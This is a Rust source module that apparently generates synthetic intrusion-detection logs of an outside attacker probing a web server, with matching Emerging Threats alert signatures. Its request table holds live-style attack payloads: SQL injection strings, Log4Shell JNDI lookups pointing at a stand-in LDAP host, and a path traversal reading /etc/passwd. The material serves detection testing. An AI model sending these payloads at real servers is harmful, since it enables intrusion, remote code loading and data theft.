//! The public web server probed for injection and Log4Shell (T1190), as the IDS sees it.

use super::stage::Stage;
use crate::{
    emit::eve,
    model::{HostKind, addresses},
};

const REQUESTS: &[(&str, &str, u32, &str)] = &[
    (
        "/login?user=admin%27%20OR%201%3D1--&pw=x",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        2_006_446,
        "ET WEB_SERVER Possible SQL Injection Attempt SELECT FROM",
    ),
    (
        "/report/view?id=1%20UNION%20SELECT%20name,id_no,tel%20FROM%20pat_master_index--",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        2_006_446,
        "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT",
    ),
    (
        "/oa/login.do?name=${jndi:ldap://198.51.100.66:1389/Exploit}",
        "${jndi:ldap://198.51.100.66:1389/a}",
        2_034_647,
        "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
    ),
    (
        "/..%2f..%2f..%2fetc/passwd",
        "Mozilla/5.0 zgrab/0.x",
        2_009_714,
        "ET WEB_SERVER Directory Traversal Attempt",
    ),
    (
        "/yyoa/common/js/menu/test.jsp?doType=101&S1=(SELECT%20@@basedir)",
        "python-requests/2.31.0",
        2_030_001,
        "ET WEB_SPECIFIC_APPS OA System SQL Injection",
    ),
];

pub(super) fn play(stage: &mut Stage<'_>) -> Option<()> {
    let (_, attacker) = addresses::foreign(&mut stage.rng);
    let web = stage.machine(HostKind::Web)?;
    let name = format!("www.{}.example", stage.unit.spec.id);
    let mut second = 0.0;
    for _ in 0..stage.rng.between(15, 40) {
        let (url, agent, id, text) = stage.rng.pick(REQUESTS);
        let talk = eve::Talk {
            flow_id: stage.rng.next_u64() >> 12,
            src: attacker.into(),
            sport: stage.port(),
            dst: web.ip.into(),
            dport: 80,
            proto: "TCP",
            app: "http",
        };
        let http = eve::Http { host: &name, url, agent, method: "GET", status: 200, length: 812 };
        let at = stage.at(second);
        eve::http(&mut stage.batch, stage.unit, at, &talk, &http);
        let sig = eve::Signature { id, text, category: "Web Application Attack", severity: 1 };
        let at = stage.at(second + 0.002);
        eve::alert(&mut stage.batch, stage.unit, at, &talk, &sig, Some(&http));
        second += 1.0 + 9.0 * stage.rng.unit();
    }
    stage.entity("ip", attacker);
    stage.entity("host", &web.name);
    stage.mark(format!("\"src_ip\":\"{attacker}\""));
    Some(())
}
